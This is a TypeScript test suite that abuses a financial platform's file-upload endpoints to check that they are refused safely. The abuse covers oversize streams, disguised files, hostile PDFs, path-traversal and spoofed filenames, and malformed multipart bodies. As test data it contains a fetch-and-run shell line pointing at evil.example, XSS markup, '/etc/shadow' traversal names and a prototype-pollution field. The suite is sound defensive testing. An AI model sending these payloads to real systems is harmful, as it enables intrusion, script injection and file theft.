import { randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import http from 'node:http';
import type { Socket } from 'node:net';
import path from 'node:path';
import { Readable } from 'node:stream';
import { MAX_UPLOAD_BYTES } from '@ico/domain/constants';
import { EDD_DOCUMENT_FIELD } from '@ico/domain/edd';
import { OFFERING_DOCUMENT_MAX_BYTES } from '@ico/domain/offering-documents';
import { BANK_ACCOUNT_FIELDS, COMPANY_FIELDS } from '@ico/testing/kyc-samples';
import { distinctPng } from '@ico/testing/slip-pictures';
import { count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  auditLog,
  authSession,
  joiningEvent,
  monitoringEntry,
  privateFile,
  publicFile,
  user,
  verificationSubmission,
} from '../src/db/schema';
import { tinyPdf } from '../src/seed/tiny-pdf';
import { updateSessions, updateUsers } from '../src/services/sessions/session-state-writes';
import { JPEG, PDF, PNG, textParts } from './support/admin-offerings';
import { hostilePdfs, signedPdfs } from './support/hostile-pdfs';
import { createInvestor, createOffering, insertJoining } from './support/offerings';
import { createTempDir, removeDir, startTestServer, type TestServer } from './support/test-server';
import { insertMfaReset } from './support/verification';

/**
 * Abuse of every upload endpoint: oversize streams, disguised content, hostile file names, odd part counts
 * and malformed bodies. Each is refused in the error format (or, for names, kept as display text only), and
 * leaves no row and no file behind. The upload code does not depend on the database: one (PostgreSQL) is enough.
 */

/** One part of a hand-built multipart body: a text field (`value`) or a file. */
type Part = { field: string; value?: string; data?: Buffer; name?: string; type?: string; disposition?: string };

const BOUNDARY = '----abuse-boundary-7MA4YWxkTrZu0gW';
const CRLF = Buffer.from('\r\n');

/** The head of a part, exactly as given: names are not escaped, so a test can send what a browser would not. */
function partHead(part: Part): Buffer {
  if (part.value !== undefined) return Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field}"\r\n\r\n`);
  const disposition = part.disposition ?? `form-data; name="${part.field}"; filename="${part.name ?? `${part.field}.png`}"`;
  return Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\nContent-Type: ${part.type ?? 'image/png'}\r\n\r\n`);
}

const partBytes = (part: Part): Buffer[] => [partHead(part), part.value !== undefined ? Buffer.from(part.value) : (part.data ?? PNG), CRLF];

function encode(parts: readonly Part[]): Buffer {
  return Buffer.concat([...parts.flatMap(partBytes), Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

type Answer = { status: number; body: Record<string, unknown>; headers: Headers };

/** An upload as a plain request: the body as given, with a Content-Length. */
async function send(server: TestServer, target: Target, body: Buffer, contentType = `multipart/form-data; boundary=${BOUNDARY}`) {
  const response = await fetch(`${server.baseUrl}/api${target.path}`, {
    method: target.method,
    headers: { accept: 'application/json', authorization: `Bearer ${target.token}`, 'content-type': contentType },
    body: new Uint8Array(body),
  });
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : {}, headers: response.headers } as Answer;
}

/** The documented error answer: JSON `{ message, detail? }` with the given status (never a 5xx). */
function expectError(answer: Answer, status: number, body?: { message: string; detail?: Record<string, string> }) {
  expect(answer.status, JSON.stringify(answer.body)).toBe(status);
  expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
  expect(Object.keys(answer.body).filter((key) => key !== 'message' && key !== 'detail')).toEqual([]);
  expect(answer.body.message).toMatch(/^[A-Z_]+$/);
  if (body) expect(answer.body).toEqual(body);
}

/** What an upload must be accepted with: the baseline every abuse case changes one thing of. */
type Target = { method: 'POST' | 'PUT'; path: string; token: string; parts: Part[]; status: number };

type Endpoint = {
  name: string;
  /** As the OpenAPI document names it. */
  route: string;
  /** The route module that reads its body. */
  source: string;
  /** The file field the abuse cases go into. */
  file: string;
  /** Takes JPEG and PNG only (a PDF is refused). */
  imagesOnly?: boolean;
  /** Takes PDF only (a picture is refused): offering documents, up to `maxBytes`. */
  pdfOnly?: boolean;
  /** Its size limit, when not MAX_UPLOAD_BYTES. */
  maxBytes?: number;
  prepare(server: TestServer): Promise<Target>;
};

/** A real PDF no upload sent before (each document is its own file). */
const distinctPdf = (): Buffer => tinyPdf(['Offering document', randomBytes(8).toString('hex')]);

const MONITORING = { titleEN: 'Quarterly report', titleTH: 'รายงานรายไตรมาส', contentsEN: 'Revenue grew.', contentsTH: 'รายได้เติบโต' };

/** A staff member who manages offerings, with two-factor on (written directly, as a factory). */
async function offeringsStaff(server: TestServer): Promise<string> {
  const staff = await createInvestor(server);
  await updateUsers(server.app, server.app.database.db, eq(user.id, staff.id), { role: 'operations' });
  // The back office serves a session that presented its second factor at sign-in.
  const { sessionId } = await server.app.tokens.verifyAccess(staff.token);
  await updateSessions(server.app, server.app.database.db, eq(authSession.id, sessionId), { secondFactorAt: new Date() });
  return staff.token;
}

const ENDPOINTS: Endpoint[] = [
  {
    name: 'identity documents',
    route: 'POST /api/auth/selfie_file/',
    source: 'auth/selfie-file.ts',
    file: 'selfiePrivate',
    async prepare(server) {
      const investor = await createInvestor(server, { level: 'VIEWER_LEVEL' });
      return {
        method: 'POST',
        path: '/auth/selfie_file/',
        token: investor.token,
        status: 200,
        parts: [
          { field: 'selfiePrivate', data: JPEG, name: 'me.jpg', type: 'image/jpeg' },
          { field: 'IDcard1Private', data: PNG, name: 'front.png' },
          { field: 'IDcard2Private', data: PDF, name: 'back.pdf', type: 'application/pdf' },
        ],
      };
    },
  },
  {
    name: 'source-of-funds document (enhanced due diligence)',
    route: 'POST /api/auth/edd/',
    source: 'auth/edd.ts',
    file: EDD_DOCUMENT_FIELD,
    async prepare(server) {
      const investor = await createInvestor(server, { level: 'VIEWER_LEVEL' });
      // A high-risk investor is asked for the declaration (risk-rating.ts): the rating as the risk service stores it.
      await updateUsers(server.app, server.app.database.db, eq(user.id, investor.id), { riskLevel: 'high' });
      return {
        method: 'POST',
        path: '/auth/edd/',
        token: investor.token,
        status: 200,
        parts: [
          ...textParts({ basis: 'sourceOfFunds', origin: 'BUSINESS', explanation: 'Profits of my shop, kept in my savings account.' }),
          { field: EDD_DOCUMENT_FIELD, data: PDF, name: 'statement.pdf', type: 'application/pdf' },
        ],
      };
    },
  },
  {
    name: 'bank book',
    route: 'POST /api/auth/bank_file/',
    source: 'auth/bank-file.ts',
    file: 'bookImagePrivate',
    async prepare(server) {
      const investor = await createInvestor(server, { level: 'VIEWER_LEVEL' });
      return {
        method: 'POST',
        path: '/auth/bank_file/',
        token: investor.token,
        status: 200,
        parts: [...textParts(BANK_ACCOUNT_FIELDS), { field: 'bookImagePrivate', data: PNG, name: 'book.png' }],
      };
    },
  },
  {
    name: 'company documents',
    route: 'POST /api/auth/company_file/',
    source: 'auth/company-file.ts',
    file: 'companyDocument1Private',
    async prepare(server) {
      const investor = await createInvestor(server, { level: 'VIEWER_LEVEL' });
      await updateUsers(server.app, server.app.database.db, eq(user.id, investor.id), { individual: 'corporate' });
      return {
        method: 'POST',
        path: '/auth/company_file/',
        token: investor.token,
        status: 200,
        parts: [...textParts(COMPANY_FIELDS), { field: 'companyDocument1Private', data: PDF, name: 'cert.pdf', type: 'application/pdf' }],
      };
    },
  },
  {
    name: 'payment slip',
    route: 'POST /api/icoportal/paymentslip_file/{id}/',
    source: 'icoportal/paymentslip-file.ts',
    file: 'paymentSlipFilePrivate',
    async prepare(server) {
      const db = server.app.database.db;
      const investor = await createInvestor(server);
      const offering = await createOffering(db, {}, { questions: 0 });
      const now = new Date();
      const joining = await insertJoining(db, {
        userId: investor.id,
        offeringId: offering.id,
        status: 'WAITING_FOR_PAYMENT',
        amount: '5000',
        tokenAmount: '500.00000000',
        reservedAt: now,
        paymentStartedAt: now,
      });
      return {
        method: 'POST',
        path: `/icoportal/paymentslip_file/${joining.id}/`,
        token: investor.token,
        status: 200,
        // A picture of its own: a slip file sent before is refused (SLIP_ALREADY_SENT).
        parts: [{ field: 'paymentSlipFilePrivate', data: await distinctPng(), name: 'slip.png' }],
      };
    },
  },
  {
    name: 'offering pictures',
    route: 'POST /api/admin/offerings/{id}/images/',
    source: 'admin/offerings.ts',
    file: 'image',
    imagesOnly: true,
    async prepare(server) {
      const offering = await createOffering(server.app.database.db, {}, { questions: 0 });
      return {
        method: 'POST',
        path: `/admin/offerings/${offering.id}/images/`,
        token: await offeringsStaff(server),
        status: 200,
        parts: [
          { field: 'image', data: PNG, name: 'logo.png' },
          { field: 'poster', data: JPEG, name: 'poster.jpg', type: 'image/jpeg' },
        ],
      };
    },
  },
  {
    name: 'offering document',
    route: 'POST /api/admin/offerings/{id}/documents/',
    source: 'admin/offerings.ts',
    file: 'file',
    pdfOnly: true,
    maxBytes: OFFERING_DOCUMENT_MAX_BYTES,
    async prepare(server) {
      const offering = await createOffering(server.app.database.db, {}, { questions: 0 });
      return {
        method: 'POST',
        path: `/admin/offerings/${offering.id}/documents/`,
        token: await offeringsStaff(server),
        status: 201,
        parts: [
          ...textParts({ kind: 'FILING', language: 'th', title: 'หนังสือชี้ชวน' }),
          { field: 'file', data: distinctPdf(), name: 'filing.pdf', type: 'application/pdf' },
        ],
      };
    },
  },
  {
    name: 'new monitoring entry',
    route: 'POST /api/admin/offerings/{id}/monitoring/',
    source: 'admin/offerings.ts',
    file: 'file1',
    async prepare(server) {
      const offering = await createOffering(server.app.database.db, {}, { questions: 0 });
      return {
        method: 'POST',
        path: `/admin/offerings/${offering.id}/monitoring/`,
        token: await offeringsStaff(server),
        status: 201,
        parts: [...textParts(MONITORING), { field: 'file1', data: PNG, name: 'chart.png' }],
      };
    },
  },
  {
    name: 'changed monitoring entry',
    route: 'PUT /api/admin/monitoring/{id}/',
    source: 'admin/monitoring.ts',
    file: 'file1',
    async prepare(server) {
      const db = server.app.database.db;
      const offering = await createOffering(db, {}, { questions: 0 });
      const [entry] = await db
        .insert(monitoringEntry)
        .values({ offeringId: offering.id, titleEN: 'T', titleTH: 'ท', contentsEN: 'C', contentsTH: 'ค' })
        .returning();
      return {
        method: 'PUT',
        path: `/admin/monitoring/${entry?.id}/`,
        token: await offeringsStaff(server),
        status: 200,
        parts: [...textParts(MONITORING), { field: 'file1', data: PNG, name: 'chart.png' }, { field: 'remove_file2', value: 'true' }],
      };
    },
  },
  {
    name: 'two-factor reset selfie',
    route: 'POST /api/auth/mfa_reset/selfie/',
    source: 'auth/mfa-reset.ts',
    file: 'selfiePrivate',
    async prepare(server) {
      const investor = await createInvestor(server);
      const code = await insertMfaReset(server, investor.id);
      // No sign-in: the link's code is the key (the owner's token only reads the stored file back).
      return {
        method: 'POST',
        path: '/auth/mfa_reset/selfie/',
        token: investor.token,
        status: 200,
        parts: [
          { field: 'code', value: code },
          { field: 'selfiePrivate', data: JPEG, name: 'me.jpg', type: 'image/jpeg' },
        ],
      };
    },
  },
];

/** The target's parts with the abused file part changed. */
const withFile = (target: Target, field: string, change: Partial<Part>): Part[] =>
  target.parts.map((part) => (part.field === field && part.value === undefined ? { ...part, ...change } : part));

/** Every file under `dir`, as paths relative to it. */
async function tree(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(dir, path.join(entry.parentPath, entry.name)))
    .sort();
}

/** Streams still open when a test ends (it failed): closed, so the server can stop. */
const openStreams = new Set<http.ClientRequest>();

const TABLES = { privateFile, publicFile, verificationSubmission, monitoringEntry, joiningEvent, auditLog };

/**
 * Streams an upload whose file part is four times the limit, with no Content-Length (chunked). The closing
 * boundary is only sent once the server has answered: a server that reads the whole body first never answers.
 */
function streamOversize(server: TestServer, target: Target, field: string, maxBytes = MAX_UPLOAD_BYTES) {
  const fileBytes = 4 * maxBytes;
  const head = Buffer.concat([...target.parts.filter((part) => part.value !== undefined).flatMap(partBytes), partHead({ field }), PNG]);
  const chunk = Buffer.alloc(64 * 1024, 0x41);
  let sent = 0;
  return new Promise<{ answer: Answer; sentWhenAnswered: number; port: number }>((resolve, reject) => {
    const source = new Readable({
      read() {
        if (sent === 0) {
          sent = head.length;
          this.push(head);
        } else if (sent < head.length + fileBytes) {
          const piece = chunk.subarray(0, Math.min(chunk.length, head.length + fileBytes - sent));
          sent += piece.length;
          this.push(piece);
        }
        // Else: hold the closing boundary back; the test ends the request once the answer has come.
      },
    });
    const request = http.request(`${server.baseUrl}/api${target.path}`, {
      method: target.method,
      headers: {
        accept: 'application/json',
        authorization: `Bearer ${target.token}`,
        'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
      },
    });
    openStreams.add(request);
    request.on('close', () => openStreams.delete(request));
    let answered = false;
    request.on('response', (response) => {
      answered = true;
      const sentWhenAnswered = sent;
      const port = request.socket?.localPort ?? 0;
      const chunks: Buffer[] = [];
      response.on('data', (data: Buffer) => chunks.push(data));
      response.on('end', () => {
        source.destroy();
        request.destroy();
        const text = Buffer.concat(chunks).toString();
        const headers = new Headers(Object.entries(response.headers).map(([k, v]) => [k, String(v)] as [string, string]));
        resolve({
          answer: { status: response.statusCode ?? 0, body: text ? JSON.parse(text) : {}, headers },
          sentWhenAnswered,
          port,
        });
      });
    });
    request.on('error', (error) => {
      if (!answered) reject(error);
    });
    expect(request.getHeader('content-length')).toBeUndefined();
    source.pipe(request);
  });
}

/** Things that are not what they are named or declared to be. */
const DISGUISED: Array<{ label: string; data: Buffer; name: string; type: string }> = [
  { label: 'plain text named .jpg', data: Buffer.from('just some text, not a picture\n'), name: 'photo.jpg', type: 'image/jpeg' },
  {
    label: 'an HTML page with script named .png',
    data: Buffer.from('<!doctype html><html><body><script>fetch("/api/auth/me/")</script></body></html>'),
    name: 'page.png',
    type: 'image/png',
  },
  {
    label: 'an SVG with script named .png',
    data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    name: 'logo.png',
    type: 'image/png',
  },
  {
    label: 'an SVG with script declared as SVG',
    data: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    name: 'logo.svg',
    type: 'image/svg+xml',
  },
  {
    label: 'a Windows executable named .pdf',
    data: Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58),
      Buffer.from([0x80, 0, 0, 0]),
      Buffer.alloc(64),
      Buffer.from('PE\0\0'),
      Buffer.alloc(64),
    ]),
    name: 'statement.pdf',
    type: 'application/pdf',
  },
  {
    label: 'an ELF executable named .jpg',
    data: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
    name: 'photo.jpg',
    type: 'image/jpeg',
  },
  {
    label: 'a shell script named .png',
    data: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
    name: 'scan.png',
    type: 'image/png',
  },
  {
    label: 'a GIF (an image, but not an allowed type)',
    data: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
    name: 'a.gif',
    type: 'image/gif',
  },
  {
    label: 'a ZIP (an office document) named .pdf',
    data: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]), Buffer.alloc(40)]),
    name: 'contract.pdf',
    type: 'application/pdf',
  },
];

/** Hostile names and the display name each one is kept as (for PNG content). */
const NAMES: Array<{ label: string; name?: string; disposition?: (field: string) => string; stored: string }> = [
  { label: 'a relative path', name: '../../etc/passwd', stored: 'passwd.png' },
  { label: 'a deep relative path', name: '../../../../../../../../tmp/evil.png', stored: 'evil.png' },
  { label: 'a Windows relative path', name: '..\\\\..\\\\..\\\\x.png', stored: 'x.png' },
  { label: 'an absolute path', name: '/etc/cron.d/job', stored: 'job.png' },
  { label: 'an absolute Windows path', name: 'C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts', stored: 'hosts.png' },
  { label: 'only dots', name: '..', stored: 'file.png' },
  {
    label: 'an encoded path (filename*)',
    disposition: (field) => `form-data; name="${field}"; filename*=UTF-8''..%2F..%2Fetc%2Fshadow`,
    stored: 'shadow.png',
  },
  { label: 'a NUL byte', name: 'slip.png\u0000.exe', stored: 'slip.png.exe.png' },
  {
    label: 'control characters and markup',
    disposition: (field) => `form-data; name="${field}"; filename*=UTF-8''%07a%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%09%1B.png`,
    stored: 'aimg src=x onerror=alert(1).png',
  },
  { label: 'a right-to-left override', name: 'invoice\u202Egnp.exe', stored: 'invoicegnp.exe.png' },
  { label: 'zero-width characters', name: '\uFEFFre\u200Bport\u2066.png', stored: 'report.png' },
  { label: 'a very long name', name: `${'a'.repeat(3000)}.png`, stored: `${'a'.repeat(116)}.png` },
  { label: 'a Thai name (kept)', name: 'สลิปโอนเงิน.png', stored: 'สลิปโอนเงิน.png' },
];

describe('upload abuse', () => {
  let server: TestServer;
  let root: string;
  let storage: string;
  /** The server's side of each connection, by the client's port. */
  const serverSockets = new Map<number, Socket>();

  const snapshot = async () => {
    const db = server.app.database.db;
    const counts: Record<string, number> = {};
    for (const [name, table] of Object.entries(TABLES)) counts[name] = Number((await db.select({ n: count() }).from(table))[0]?.n);
    const fileIds = new Set([
      ...(await db.select({ id: privateFile.id }).from(privateFile)).map((row) => row.id),
      ...(await db.select({ id: publicFile.id }).from(publicFile)).map((row) => row.id),
    ]);
    return { counts, fileIds, tree: await tree(root) };
  };
  type Snapshot = Awaited<ReturnType<typeof snapshot>>;

  /** No row, no file: the database counts and the whole folder tree around the data folder are as before. */
  const expectNothingStored = async (before: Snapshot) => {
    const after = await snapshot();
    expect(after.counts).toEqual(before.counts);
    expect(after.tree).toEqual(before.tree);
  };

  /** The file rows written since `before`, private and public alike. */
  const newFiles = async (before: Snapshot) => {
    const db = server.app.database.db;
    const rows = [
      ...(await db.select().from(privateFile)).map((row) => ({ ...row, url: `/api/files/${row.id}/` })),
      ...(await db.select().from(publicFile)).map((row) => ({ ...row, field: null, url: `/api/public-files/${row.id}/` })),
    ];
    return rows.filter((row) => !before.fileIds.has(row.id));
  };

  beforeAll(async () => {
    // The data folder sits three levels down, so a name that climbs out of the storage folder lands in the tree checked.
    root = await createTempDir('abuse-uploads');
    const dataDir = path.join(root, 'a', 'b', 'data');
    server = await startTestServer({ database: 'postgres', env: { DATA_DIR: dataDir } });
    storage = path.join(dataDir, 'private-files');
    server.app.server.on('connection', (socket: Socket) => serverSockets.set(socket.remotePort ?? 0, socket));
  }, 120_000);
  afterEach(() => {
    for (const stream of openStreams) stream.destroy();
  });
  afterAll(async () => {
    await server?.close();
    await removeDir(root);
  });

  it('covers every upload endpoint the API documents and every route module that reads a multipart body', async () => {
    const doc = (await (await fetch(`${server.baseUrl}/api/docs/json`)).json()) as {
      paths: Record<string, Record<string, { summary?: string; consumes?: string[] }>>;
    };
    const documented = Object.entries(doc.paths).flatMap(([route, operations]) =>
      Object.entries(operations)
        .filter(([, operation]) => /multipart/i.test(`${operation.summary ?? ''} ${(operation.consumes ?? []).join(' ')}`))
        .map(([method]) => `${method.toUpperCase()} ${route}`),
    );
    // The bank statement and watch-list imports take a CSV (or the UN list's XML) and store no file: their bad bodies
    // (not the format, oversize, unknown parts, malformed) are refused in bank-statements.test.ts and watchlists.test.ts.
    const csvUploads = ['POST /api/admin/statements/', 'POST /api/admin/watchlists/{list}/releases/'];
    expect(documented.sort()).toEqual([...ENDPOINTS.map((endpoint) => endpoint.route), ...csvUploads].sort());

    const routesDir = path.join(import.meta.dirname, '../src/routes');
    const readers: string[] = [];
    for (const file of await readdir(routesDir, { recursive: true })) {
      if (
        file.endsWith('.ts') &&
        /readMultipart\(|readDocumentUpload\(|readVerificationUpload\(/.test(await readFile(path.join(routesDir, file), 'utf8'))
      )
        readers.push(file);
    }
    expect(readers.sort()).toEqual([...new Set(ENDPOINTS.map((endpoint) => endpoint.source))].sort());
  });

  describe.each(ENDPOINTS.map((endpoint) => [endpoint.name, endpoint] as const))('%s', (_name, endpoint) => {
    it('takes the valid upload every case below changes one thing of', async () => {
      const target = await endpoint.prepare(server);
      const before = await snapshot();
      const answer = await send(server, target, encode(target.parts));
      expect(answer.status, JSON.stringify(answer.body)).toBe(target.status);
      expect((await newFiles(before)).length).toBeGreaterThan(0);
    });

    it('answers an oversize file streamed without Content-Length with 413 before the upload ends, storing nothing', async () => {
      const target = await endpoint.prepare(server);
      const before = await snapshot();
      // An answer at all shows the server did not wait for the whole body: its end is never sent.
      const { answer, sentWhenAnswered, port } = await streamOversize(server, target, endpoint.file, endpoint.maxBytes);
      expectError(answer, 413, { message: 'FILE_TOO_LARGE', detail: { [endpoint.file]: 'FILE_TOO_LARGE' } });
      expect(sentWhenAnswered).toBeGreaterThan(endpoint.maxBytes ?? MAX_UPLOAD_BYTES);
      // The client has gone: the server lets go of the connection instead of holding the unread rest of the upload.
      await expect.poll(() => serverSockets.get(port)?.destroyed, { timeout: 10_000 }).toBe(true);
      await expectNothingStored(before);
      // The same endpoint still takes a valid upload afterwards.
      expect((await send(server, target, encode(target.parts))).status).toBe(target.status);
    }, 30_000);

    it('refuses content that is not JPEG, PNG or PDF, whatever its name and declared type, storing nothing', async () => {
      const target = await endpoint.prepare(server);
      const before = await snapshot();
      for (const disguised of DISGUISED) {
        const answer = await send(server, target, encode(withFile(target, endpoint.file, disguised)));
        expect(answer.status, disguised.label).toBe(400);
        expectError(answer, 400, { message: 'FILE_TYPE_NOT_ALLOWED', detail: { [endpoint.file]: 'FILE_TYPE_NOT_ALLOWED' } });
      }
      await expectNothingStored(before);
    });

    it.skipIf(endpoint.imagesOnly)(
      'refuses a PDF carrying a script, an action, an embedded file or a form behind any filter, storing nothing; a plain PDF and digitally signed ones pass',
      async () => {
        const target = await endpoint.prepare(server);
        const before = await snapshot();
        for (const { label, pdf } of hostilePdfs()) {
          const answer = await send(
            server,
            target,
            encode(withFile(target, endpoint.file, { data: pdf, name: 'doc.pdf', type: 'application/pdf' })),
          );
          expect({ label, status: answer.status, body: answer.body }).toEqual({
            label,
            status: 400,
            body: { message: 'PDF_ACTIVE_CONTENT', detail: { [endpoint.file]: 'PDF_ACTIVE_CONTENT' } },
          });
        }
        await expectNothingStored(before);
        const plain = { data: distinctPdf(), name: 'doc.pdf', type: 'application/pdf' };
        const answer = await send(server, target, encode(withFile(target, endpoint.file, plain)));
        expect(answer.status, JSON.stringify(answer.body)).toBe(target.status);
        // A signature lives in a form of signature fields only: a signed document is kept as it was sent.
        for (const { label, pdf } of signedPdfs()) {
          const fresh = await endpoint.prepare(server);
          const stored = await snapshot();
          const signed = await send(
            server,
            fresh,
            encode(withFile(fresh, endpoint.file, { data: pdf, name: 'signed.pdf', type: 'application/pdf' })),
          );
          expect({ label, status: signed.status }, JSON.stringify(signed.body)).toEqual({ label, status: fresh.status });
          const kept = (await newFiles(stored)).filter((row) => row.fileName === 'signed.pdf');
          expect(kept.length, label).toBe(1);
          expect(await readFile(path.join(storage, kept[0]?.storageKey ?? '')), label).toEqual(pdf);
        }
      },
    );

    it('goes by the content, not the declared type: PDF bytes declared image/png', async () => {
      const target = await endpoint.prepare(server);
      const before = await snapshot();
      if (endpoint.pdfOnly) {
        // The other way round: PNG bytes declared a PDF, named .pdf, are a picture and refused.
        const disguised = await send(
          server,
          target,
          encode(withFile(target, endpoint.file, { data: PNG, name: 'scan.pdf', type: 'application/pdf' })),
        );
        expectError(disguised, 400, { message: 'FILE_TYPE_NOT_ALLOWED', detail: { [endpoint.file]: 'FILE_TYPE_NOT_ALLOWED' } });
        await expectNothingStored(before);
        return;
      }
      const answer = await send(
        server,
        target,
        encode(withFile(target, endpoint.file, { data: PDF, name: 'scan.png', type: 'image/png' })),
      );
      if (endpoint.imagesOnly) {
        expectError(answer, 400, { message: 'FILE_TYPE_NOT_ALLOWED', detail: { [endpoint.file]: 'FILE_TYPE_NOT_ALLOWED' } });
        await expectNothingStored(before);
        return;
      }
      // PDF is allowed here: it is kept as the PDF it is, under a name that says so, and served as one.
      expect(answer.status).toBe(target.status);
      const stored = (await newFiles(before)).filter((row) => row.contentType === 'application/pdf' && row.size === PDF.length);
      expect(stored.map((row) => row.fileName)).toContain('scan.png.pdf');
      const served = await fetch(`${server.baseUrl}${stored.find((row) => row.fileName === 'scan.png.pdf')?.url}`, {
        headers: { authorization: `Bearer ${target.token}` },
      });
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe('application/pdf');
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    });

    it('keeps a hostile file name as display text only, under a key the server chose, inside the storage folder', async () => {
      // A PDF-only endpoint gets the same names with .pdf for .png (and PDF content).
      const asPdf = (text: string) => (endpoint.pdfOnly ? text.replaceAll('.png', '.pdf') : text);
      const type = endpoint.pdfOnly ? 'application/pdf' : 'image/png';
      for (const { label, name, disposition: dispositionOf, stored: storedName } of NAMES) {
        const hostile = { label, name: name === undefined ? undefined : asPdf(name), stored: asPdf(storedName) };
        const target = await endpoint.prepare(server);
        const before = await snapshot();
        const disposition = dispositionOf ? asPdf(dispositionOf(endpoint.file)) : undefined;
        const data = endpoint.pdfOnly ? distinctPdf() : await distinctPng();
        const parts = withFile(target, endpoint.file, { data, type, name: hostile.name, disposition });
        const answer = await send(server, target, encode(parts));
        expect(answer.status, `${hostile.label}: ${JSON.stringify(answer.body)}`).toBe(target.status);

        const stored = await newFiles(before);
        const file = stored.find((row) => row.fileName === hostile.stored);
        expect(file, `${hostile.label}: ${stored.map((row) => JSON.stringify(row.fileName)).join(', ')}`).toBeDefined();
        if (!file) continue;
        expect(file.storageKey).toMatch(/^(u\d+|public)\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
        expect(file.storageKey).toContain(file.id);
        // Public pictures are kept as sent; private ones re-encoded (issue 17): the same pixels.
        const kept = await readFile(path.join(storage, file.storageKey));
        if (file.storageKey.startsWith('public/') || endpoint.pdfOnly) expect(kept).toEqual(data);
        else expect(await sharp(kept).raw().toBuffer()).toEqual(await sharp(data).raw().toBuffer());
        // Outside the storage folder nothing changed; inside it, exactly the new objects were added.
        const after = await tree(root);
        const storageDir = path.relative(root, storage);
        const outside = (files: string[]) => files.filter((name) => !name.startsWith(`${storageDir}${path.sep}`));
        expect(outside(after), hostile.label).toEqual(outside(before.tree));
        expect(after.filter((name) => !before.tree.includes(name)).sort()).toEqual(
          stored.map((row) => path.join(storageDir, row.storageKey)).sort(),
        );
        // Served under its display name, one header line, never sniffed.
        const served = await fetch(`${server.baseUrl}${file.url}`, { headers: { authorization: `Bearer ${target.token}` } });
        expect(served.status).toBe(200);
        expect(served.headers.get('content-disposition')).toBe(`inline; filename*=UTF-8''${encodeURIComponent(hostile.stored)}`);
        expect(served.headers.get('content-type')).toBe(type);
        expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      }
    }, 60_000);

    it('refuses unknown, repeated and too many parts in the error format, storing nothing', async () => {
      const target = await endpoint.prepare(server);
      const filePart = target.parts.find((part) => part.field === endpoint.file) as Part;
      const firstText = target.parts.find((part) => part.value !== undefined);
      const cases: Array<{ label: string; parts: Part[]; detail?: Record<string, string> }> = [
        {
          label: 'an unknown text field',
          parts: [...target.parts, { field: 'isAdmin', value: 'true' }],
          detail: { isAdmin: 'FIELD_NOT_EXPECTED' },
        },
        { label: 'an unknown file', parts: [...target.parts, { field: 'extraPrivate' }], detail: { extraPrivate: 'FILE_NOT_EXPECTED' } },
        {
          label: 'a file sent twice',
          parts: [...target.parts, { ...filePart, data: JPEG }],
          detail: { [endpoint.file]: 'FIELD_REPEATED' },
        },
        firstText
          ? {
              label: 'a text field sent twice',
              parts: [...target.parts, { ...firstText, value: 'other' }],
              detail: { [firstText.field]: 'FIELD_REPEATED' },
            }
          : {
              label: 'a text field named like the file',
              parts: [...target.parts, { field: endpoint.file, value: 'other' }],
              detail: { [endpoint.file]: 'FIELD_NOT_EXPECTED' },
            },
        { label: 'six files', parts: [...target.parts, ...Array.from({ length: 6 }, () => ({ ...filePart }))] },
        {
          label: 'forty text fields',
          parts: [...Array.from({ length: 40 }, (_, i) => ({ field: `note${i}`, value: 'x' })), ...target.parts],
        },
        { label: 'thirty empty parts', parts: [...Array.from({ length: 30 }, () => ({ field: 'x', value: '' })), ...target.parts] },
        { label: 'a prototype field name', parts: [{ field: '__proto__', value: '{"role":"admin"}' }, ...target.parts] },
        { label: 'a file named like a prototype property', parts: [{ field: 'constructor' }, ...target.parts] },
      ];
      const before = await snapshot();
      for (const { label, parts, detail } of cases) {
        const answer = await send(server, target, encode(parts));
        expect(answer.status, label).toBe(400);
        expectError(answer, 400, detail ? { message: 'BAD_REQUEST', detail } : undefined);
      }
      await expectNothingStored(before);
    });

    it('answers a malformed body 400 BAD_REQUEST, never 5xx, storing nothing', async () => {
      const target = await endpoint.prepare(server);
      const body = encode(target.parts);
      const sample = target.parts.find((part) => part.field === endpoint.file)?.data ?? PNG;
      const cut = body.indexOf(sample.subarray(0, 8));
      const cases: Array<{ label: string; body: Buffer; type?: string }> = [
        { label: 'another boundary than the header names', body, type: 'multipart/form-data; boundary=not-the-one-used' },
        { label: 'no boundary in the header', body, type: 'multipart/form-data' },
        { label: 'cut inside a file', body: body.subarray(0, cut + 4) },
        { label: 'no closing boundary', body: body.subarray(0, body.length - `--${BOUNDARY}--\r\n`.length) },
        { label: 'a part head without its end', body: Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="x"`) },
        { label: 'not multipart at all', body: Buffer.from('hello, this is not a form') },
        { label: 'multipart/mixed', body, type: `multipart/mixed; boundary=${BOUNDARY}` },
        { label: 'JSON', body: Buffer.from(JSON.stringify({ [endpoint.file]: 'x' })), type: 'application/json' },
      ];
      const before = await snapshot();
      for (const { label, body: malformed, type } of cases) {
        const answer = await send(server, target, malformed, type);
